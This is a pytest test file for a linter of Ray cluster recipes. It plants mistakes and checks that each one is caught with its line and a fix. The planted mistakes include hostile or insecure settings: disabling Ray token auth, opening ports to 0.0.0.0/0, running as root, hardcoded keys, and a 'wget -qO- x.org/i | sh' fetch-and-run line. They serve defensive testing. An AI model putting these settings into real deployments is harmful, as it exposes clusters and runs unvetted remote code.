"""Every recipe for a cluster is right, and one mistake planted in any of them is found, in its line, with its mend."""

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from clusters.check import check, run
from clusters.checks.secrets import secrets_in
from clusters.checks.tokens import tokens_off
from clusters.config import InputError
from clusters.workers import ClusterConfig

ROOT = Path(__file__).parents[1]
FOLDER = ROOT / "clusters"
LIMITS = ("min_workers|minReplicas", "max_workers|maxReplicas")
RECIPES = [
    "local.sh",
    "demo.sh",
    "aws.yaml",
    "gcp.yaml",
    "kuberay/rayjob.yaml",
    "kuberay/raycluster.yaml",
    "slurm.sh",
    "Dockerfile",
]
# Drawn by nobody: forms of keys, put together here so that no scanner takes this file for a leak.
AWS_KEY = "AKIA" + "IOSFODNN7" + "EXAMPLE"
RANDOM = "q7Xw2" + "Kd9Rt4" + "Vb8Yh3Zp6Lm1"
# A variable whose value comes from where no check sees it.
UNSEEN_MODE = """              - {name: RAY_AUTH_MODE, valueFrom: {configMapKeyRef: {name: ray, key: mode}}}
            ports:"""
KILLED = "would kill a run before its step is saved; give the head RAY_JOB_STOP_WAIT_TIME_S=180"

# Recipe, what stands there, what is planted instead, words of what must be said, and words of the line it is said of.
PLANTED = [
    (
        "aws.yaml",
        "max_workers: 8\nidle",
        "max_worker: 8\nidle",
        "no 'max_worker' (nearest: max_workers)",
        "max_worker:",
    ),
    ("aws.yaml", "min_workers: 2", "min_workers: two", "'two' is not of type 'integer'", "min_workers: two"),
    ("aws.yaml", "node_type: head", "node_type: heads", "`head_node_type` must be one of", "node_type: heads"),
    ("aws.yaml", "Type: g5", "Typ: g5", "knows no 'InstanceTyp' (nearest: InstanceType)", "InstanceTyp: g5"),
    ("aws.yaml", "{VolumeSize: 200", "{VolumeSiz: 200", "no 'VolumeSiz' (nearest: VolumeSize)", "VolumeSiz:"),
    ("aws.yaml", "  ~/.ray/auth_token: ~/.ray", "  ~/x: ~/.ray", "the nodes get no token file", "file_mounts:"),
    ("aws.yaml", "host=127.0.0.1", "host=0.0.0.0", "opens the dashboard", "- >-"),
    ("aws.yaml", "--head --port", "--head --prot", "no --prot (nearest: --port)", "- >-"),
    ("aws.yaml", "setup_commands: []\nhead", "head", "setup_commands is left to Ray", "# Manyview on AWS"),
    (
        "aws.yaml",
        "setup_commands: []",
        "setup_commands: [pip install a]",
        "a is installed beside the lock",
        "install a",
    ),
    ("aws.yaml", "manyview:0.1.0", "manyview:latest", "is not pinned", "manyview:latest"),
    ("aws.yaml", "      IamInstanceProfile: {Name: YOUR-HEAD-PROFILE}\n", "", "may write every bucket", "node_config:"),
    (
        "aws.yaml",
        "    GroupName: manyview",
        "    IpPermissions: [{FromPort: 8265, ToPort: 8265, IpRanges: [{CidrIp: 0.0.0.0/0}]}]",
        "open to the whole internet",
        "IpPermissions",
    ),
    ("aws.yaml", "auth:\n", f"auth:  # {AWS_KEY}\n", "an AWS access key stands here (AKIA…)", "auth:  #"),
    ("gcp.yaml", "machineType: g2", "machinType: g2", "no 'machinType' (nearest: machineType)", "machinType"),
    ("gcp.yaml", "provisioningModel", "provisionModel", "nearest: provisioningModel", "provisionModel"),
    ("gcp.yaml", "project_id: YOUR-PROJECT", "project_id: 7", "7 is not of type", "project_id: 7"),
    ("gcp.yaml", "8\nidle", "8\nmax_workers: 9\nidle", "the key 'max_workers' stands twice", "max_workers: 9"),
    ("gcp.yaml", "type: gcp", f"type: gcp\n  x: {RANDOM}", "what looks like a key stands here (q7Xw…)", "x: q7"),
    (
        "kuberay/rayjob.yaml",
        "rayVersion:",
        "rayVersoin:",
        "no 'rayVersoin' in spec.rayClusterSpec (nearest: rayV",
        "soin",
    ),
    (
        "kuberay/rayjob.yaml",
        "backoffLimit: 4",
        "backoffLimit: four",
        "valid integer (got 'four')",
        "backoffLimit: four",
    ),
    (
        "kuberay/rayjob.yaml",
        "authOptions: {mode: token}",
        "suspend: false",
        "authentication is not on",
        "rayClusterSpec",
    ),
    ("kuberay/rayjob.yaml", "rayVersion: 2.60.0", "rayVersion: 2.9.0", "rayVersion is 2.9.0", "2.9.0"),
    ("kuberay/rayjob.yaml", "image: YOUR", "imag: YOUR", "containers.0 (nearest: image", "imag: YOUR"),
    ("kuberay/rayjob.yaml", "Mode: K8sJobMode", "Mode: K8s", "'K8sJobMode', 'HTTPMode'", "Mode: K8s"),
    ("kuberay/raycluster.yaml", '{num-cpus: "0"}', "{num-cpus: 0}", "should be a valid string (got 0)", "num-cpus: 0"),
    ("kuberay/raycluster.yaml", "ClusterIP", "LoadBalancer", "is open to others; ClusterIP", "LoadBalancer"),
    ("kuberay/raycluster.yaml", "runAsNonRoot: true", "runAsNonRoot: false", "may run as root", "runAsNonRoot: false"),
    ("kuberay/raycluster.yaml", "name: shared, mount", "name: share, mount", "(nearest: shared", "share, mount"),
    ("kuberay/raycluster.yaml", "replicas: 2\n", "replicas: 9\n", "9 is not between minReplicas 2 and", "replicas: 9"),
    (
        "kuberay/raycluster.yaml",
        "            ports:",
        "              - {name: WANDB_API_KEY, value: $HERE}\n            ports:",
        "the value of WANDB_API_KEY stands in the file; use valueFrom.secretKeyRef",
        "WANDB_API_KEY",
    ),
    (
        "aws.yaml",
        "    RAY_AUTH_MODE=token ray start --head",
        "    RAY_AUTH_MODE=disabled ray start --head",
        "turned off",
        "- >-",
    ),
    (
        "aws.yaml",
        "setup_commands: []",
        "setup_commands: [unset RAY_AUTH_MODE]",
        "authentication is turned off",
        "unset",
    ),
    (
        "aws.yaml",
        "    GroupName: manyview",
        "    IpPermissions: [{FromPort: 8265, ToPort: 8265, Ipv6Ranges: [{CidrIpv6: '::/0'}]}]",
        "open to the whole internet",
        "IpPermissions",
    ),
    (
        "kuberay/raycluster.yaml",
        "            ports:",
        "              - {name: RAY_AUTH_MODE, value: disabled}\n            ports:",
        "authentication is turned off",
        "RAY_AUTH_MODE",
    ),
    (
        "kuberay/rayjob.yaml",
        "    python -m pretrain /opt",
        "    RAY_AUTH_MODE= python -m pretrain /opt",
        "authentication is turned off",
        "entrypoint",
    ),
    ("kuberay/raycluster.yaml", "            ports:", UNSEEN_MODE, "authentication is turned off", "RAY_AUTH_MODE"),
    (
        "kuberay/rayjob.yaml",
        "  backoffLimit: 4",
        "  runtimeEnvYAML: 'env_vars: {RAY_AUTH_MODE: disabled}'",
        "authentication is turned off",
        "runtimeEnvYAML",
    ),
    (
        "aws.yaml",
        "    GroupName: manyview",
        "    IpPermissions: [{FromPort: 8265, ToPort: 8265, Ipv6Ranges: [{CidrIpv6: '0::/0'}]}]",
        "open to the whole internet",
        "IpPermissions",
    ),
    (
        "aws.yaml",
        "    - --env RAY_AUTH_MODE=token",
        "    - --env RAY_AUTH_MODE=disabled",
        "authentication is turned off",
        "MODE=disabled",
    ),
    ("gcp.yaml", "MODE=token ray start --head", "MODE=token-less ray start --head", "is turned off", "- >-"),
    ("local.sh", "umask 077", "umask 077\nunset RAY_AUTH_MODE", "authentication is turned off", "unset"),
    ("local.sh", "umask 077", "umask 077\nenv -uRAY_AUTH_MODE ls", "authentication is turned off", "env -u"),
    (
        "local.sh",
        "exec ray job submit",
        """exec ray job submit --runtime-env-json='{"env_vars": {"RAY_AUTH_MODE": "disabled"}}'""",
        "authentication is turned off",
        "runtime-env-json",
    ),
    ("Dockerfile", "WORKDIR /opt", "ENV RAY_AUTH_MODE=disabled\nWORKDIR /opt", "is turned off", "ENV RAY_AUTH"),
    ("Dockerfile", "WORKDIR /opt", "ENV RAY_AUTH_MODE disabled\nWORKDIR /opt", "is turned off", "ENV RAY_AUTH"),
    ("slurm.sh", "source .venv", "env -u RAY_AUTH_MODE true\nsource .venv", "authentication is turned off", "env -u"),
    ("local.sh", "    done\n    [ -z", "    [ -z", "bash cannot read this", "}"),
    ("local.sh", "RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled", "authentication is turned off", "MODE=disabled"),
    ("local.sh", "        ray status\n", "        ray stop\n", "ends every Ray of this machine", "        ray stop"),
    ("local.sh", "--num-cpus=0", "--num-cpu=0", "no --num-cpu (nearest: --num-cpus)", "start head --head"),
    ("local.sh", "umask 077\n", "", "readable by others; add `umask 077`", "#!"),
    ("local.sh", "ray job list", "pkill raylet", "ends processes by name", "pkill"),
    ("demo.sh", "RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled", "authentication is turned off", "MODE=disabled"),
    ("demo.sh", "    clusters/local.sh down", "    pkill ray", "ends processes by name", "pkill"),
    ("local.sh", "export RAY_JOB_STOP_WAIT_TIME_S=180", "export A=1", KILLED, "start head --head"),
    ("aws.yaml", "    - --env RAY_JOB_STOP_WAIT_TIME_S=180", "    - --rm", KILLED, "run_options:"),
    ("gcp.yaml", "WAIT_TIME_S=180", "WAIT_TIME_S=3", KILLED, "run_options:"),
    ("kuberay/rayjob.yaml", "RAY_JOB_STOP_WAIT_TIME_S", "RAY_JOB_STOP_WAIT_TIME", KILLED, "env:"),
    ("kuberay/raycluster.yaml", 'value: "180"', 'value: "180s"', KILLED, "env:"),
    ("demo.sh", "umask 077\n", 'umask 077\nwords=(--head)\nray start "${words[@]}"\n', KILLED, "words=(--head"),
    ("local.sh", "export RAY_JOB_STOP_WAIT_TIME_S=180", "curl -s --head http://x", KILLED, "start head --head"),
    ("slurm.sh", "--ntasks-per-node", "--ntask-per-node", "nearest: ntasks-per-node", "--ntask-per"),
    ("slurm.sh", "#SBATCH --exclusive\n", "", "ends every Ray of yours on its nodes", "#!"),
    (
        "slurm.sh",
        "#SBATCH --signal=B:TERM@180\n",
        "",
        "before its step is saved; add `#SBATCH --signal=B:TERM@180`",
        "#!",
    ),
    ("slurm.sh", "umask 077\n", "umask 077\n#SBATCH --mem=4G\n", "no #SBATCH after the first command", "--mem=4G"),
    ("slurm.sh", "--min-nodes", "--minnodes", "no --minnodes (nearest: --min-nodes)", "srun"),
    (
        "slurm.sh",
        "umask 077",
        "umask 077\nWANDB_API_KEY=abcdefgh",
        "a value for WANDB_API_KEY stands here (abcd…)",
        "KEY=a",
    ),
    ("Dockerfile", "python:3.11.14-slim-bookworm\n", "python:latest\n", "the base python:latest is not pinned", "FROM"),
    ("Dockerfile", "USER manyview", "USER root", "runs as root", "USER root"),
    ("Dockerfile", "COPY clusters /opt", "COPY . /opt", "COPY . takes whatever lies in the folder", "COPY . /opt"),
    ("Dockerfile", "COPY data", "ADD http://x.org/data.tar", "ADD fetches URLs", "ADD http"),
    ("Dockerfile", "WORKDIR /opt", "WORKDRI /opt", "knows no WORKDRI (nearest: WORKDIR)", "WORKDRI"),
    ("Dockerfile", "--no-deps --req", "gcsfs --no-deps --req", "gcsfs is installed beside the lock", "RUN python -m"),
    ("Dockerfile", "       --require-hashes /opt", "       /opt", "by hash", "# The image"),
    ("Dockerfile", "    RAY_AUTH_MODE=token \\\n", "", "token authentication is not on", "# The image"),
    ("Dockerfile", "RUN apt-get", "RUN wget -qO- x.org/i | sh && apt-get", "run unseen", "wget -qO-"),
]


@pytest.mark.parametrize("recipe", RECIPES)
def test_every_recipe_is_right_and_opens_with_its_commands(recipe: str) -> None:
    text = (FOLDER / recipe).read_text()
    assert check(recipe, text)[1] == []
    head = text.split("\n\n")[0] if recipe not in ("local.sh", "demo.sh") else text.split("set -euo")[0]
    opening = [line for line in head.splitlines() if line.startswith("#")]
    for word in ("watch", "take down", "submit") if recipe != "Dockerfile" else ("build", "push", "take away"):
        assert any(word in line for line in opening), word


@pytest.mark.parametrize("recipe", ["aws.yaml", "gcp.yaml", "kuberay/rayjob.yaml", "kuberay/raycluster.yaml"])
def test_where_nodes_come_and_go_a_run_uses_those_there_are_and_their_gpus(recipe: str) -> None:
    text = (FOLDER / recipe).read_text()
    words = dict(re.findall(r"cluster\.(\w+)=([^\s']+)", text))
    cluster = ClusterConfig.model_validate({name: yaml.safe_load(value) for name, value in words.items()})
    fewest, most = (int(re.findall(rf"(?:{name}): (\d+)", text)[-1]) for name in LIMITS)
    assert (cluster.num_workers, cluster.use_gpu, cluster.max_failures) == ((fewest, most), True, 20)


def test_no_recipe_is_forgotten() -> None:
    there = [p for p in FOLDER.rglob("*") if p.suffix in (".sh", ".yaml") or p.name == "Dockerfile"]
    there = [path for path in there if path.parent.name != "checks"]
    assert {str(path.relative_to(FOLDER)) for path in there} == set(RECIPES)
    assert {recipe for recipe, *_ in PLANTED} == set(RECIPES)


@pytest.mark.parametrize(("recipe", "right", "wrong", "said", "line"), PLANTED)
def test_a_planted_mistake_is_found_in_its_line(recipe: str, right: str, wrong: str, said: str, line: str) -> None:
    text = (FOLDER / recipe).read_text()
    assert right in text
    planted = text.replace(right, wrong, 1)
    found = [mistake for mistake in check(recipe, planted)[1] if said in str(mistake)]
    assert found, check(recipe, planted)[1]
    assert line in planted.splitlines()[found[0].line - 1], found
    assert found[0].mend


@pytest.mark.parametrize(
    "innocent",
    ["RAY_AUTH_MODE=token ray", "-e 'RAY_AUTH_MODE=token'", '{"RAY_AUTH_MODE": "token"}', "unset RAY_ADDRESS"],
)
def test_what_keeps_tokens_on_is_no_mistake(innocent: str) -> None:
    assert list(tokens_off({"commands": [innocent], "env": [{"name": "RAY_AUTH_MODE", "value": "token"}]})) == []


def test_secrets_are_told_by_their_first_letters_only() -> None:
    shown = "".join(map(str, secrets_in(f"x: {AWS_KEY}\npassword = hunter2hunter2\nurl: s3://me:{RANDOM}@host\n")))
    assert AWS_KEY not in shown
    assert RANDOM not in shown
    assert "hunter2" not in shown
    assert len(list(secrets_in(f"x: {AWS_KEY}\npassword = hunter2hunter2\nurl: s3://me:{RANDOM}@host\n"))) == 3


def test_what_only_points_to_a_secret_is_none() -> None:
    innocent = """
    RAY_AUTH_TOKEN_PATH=$STATE/token
    ~/.ray/auth_token: ~/.ray/auth_token
    automountServiceAccountToken: true
    valueFrom: {secretKeyRef: {name: manyview, key: auth_token}}
    image: python@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
    sourceImage: projects/deeplearning-platform-release/global/images/family/common-cu129-ubuntu-2404
    """
    assert list(secrets_in(innocent)) == []


def test_the_command_names_file_line_and_mend(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = tmp_path / "job.yaml"
    broken.write_text((FOLDER / "kuberay/rayjob.yaml").read_text().replace("rayVersion", "rayVersoin"))
    with pytest.raises(InputError, match="1 mistake; mend"):
        run([str(broken), str(FOLDER / "kuberay/rayjob.yaml")])
    shown = capsys.readouterr().out
    line = broken.read_text().splitlines().index("    rayVersoin: 2.60.0") + 1
    assert f"{broken}:{line}: KubeRay knows no 'rayVersoin'" in shown
    assert "still to be replaced: YOUR-CLAIM, YOUR-REGISTRY" in shown


def test_a_file_of_no_known_kind_is_refused(tmp_path: Path) -> None:
    (tmp_path / "x.toml").write_text("a = 1")
    with pytest.raises(InputError, match="nor a Dockerfile"):
        run([str(tmp_path / "x.toml")])
    done = subprocess.run(
        [sys.executable, "-m", "clusters", "chek", "x"], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert done.returncode == 2
    assert "nearest: check" in done.stderr


def test_the_lock_is_right() -> None:
    kind, mistakes = check("requirements.lock", (ROOT / "requirements.lock").read_text())
    assert (kind, mistakes) == ("a lock", [])


def test_a_version_with_an_advisory_is_refused() -> None:
    lock = "numpy==2.0.0 \\\n    --hash=sha256:ab\ntorch==2.5.1 ; python_version < '3.12' \\\n    --hash=sha256:cd\n"
    (mistake,) = check("x.lock", lock)[1]
    assert (mistake.line, mistake.what[:32]) == (3, "torch 2.5.1 has CVE-2025-32434: ")
    assert check("x.lock", lock.replace("2.5.1", "2.6.0"))[1] == []
    said = [str(mistake) for mistake in check("x.lock", lock.replace("torch==2.5.1", "torch>=2.6"))[1]]
    assert said == ["torch is at no one version; make the lock again: make lock"]
    assert "torch has no hash" in str(check("x.lock", "torch==2.7.0\n")[1][0])


STOP = "RAY_JOB_STOP_WAIT_TIME_S"


@pytest.mark.parametrize(
    ("recipe", "right", "other"),
    [
        ("local.sh", f"export {STOP}=180", f"export {STOP}=${{GRACE:-180}}"),
        ("local.sh", f"export {STOP}=180", f': "${{{STOP}:=60}}"'),
        ("demo.sh", "set -euo pipefail\n", "set -euo pipefail\ncurl --head http://x\n"),
        ("slurm.sh", "srun= told= early=", "srun= told= early=\nray start --head"),
        ("gcp.yaml", f"{STOP}=180", f"{STOP}=$GRACE"),
        *(
            (f"kuberay/{name}.yaml", f'name: {STOP}, value: "180"', f"name: {STOP}, valueFrom: {{fieldRef: {{}}}}")
            for name in ("rayjob", "raycluster")
        ),
    ],
)
def test_the_time_that_jobs_have_to_stop_may_be_said_elsewhere(recipe: str, right: str, other: str) -> None:
    text = (FOLDER / recipe).read_text()
    assert right in text
    assert [str(one) for one in check(recipe, text.replace(right, other, 1))[1] if "would kill" in str(one)] == []


def test_the_time_of_another_container_than_ray_s_is_not_the_head_s() -> None:
    text = (FOLDER / "kuberay/raycluster.yaml").read_text()
    head = next(line for line in text.splitlines() if STOP in line)
    variable, volumes = head.strip().removeprefix("- "), "        volumes: &volumes\n"
    beside = f"          - {{name: beside, image: 'x/y:1.0', env: [{variable}]}}\n{volumes}"
    moved = text.replace(f"{head}\n", "              - {name: A, value: b}\n", 1).replace(volumes, beside, 1)
    assert [one for one in check("raycluster.yaml", moved)[1] if KILLED in str(one)]
    assert not [one for one in check("raycluster.yaml", text.replace(volumes, beside, 1))[1] if KILLED in str(one)]
